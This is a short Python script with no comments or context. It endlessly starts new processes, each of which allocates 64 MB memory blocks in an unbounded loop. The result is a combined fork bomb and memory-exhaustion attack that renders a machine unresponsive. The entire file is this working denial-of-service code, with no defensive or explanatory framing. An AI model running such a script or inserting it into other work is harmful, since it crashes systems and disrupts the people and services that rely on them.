from multiprocessing import Process

def eat():
    hold = []
    while True:
        hold.append(bytearray(64 * 1024 * 1024))

if __name__ == "__main__":
    while True:
        Process(target=eat).start()
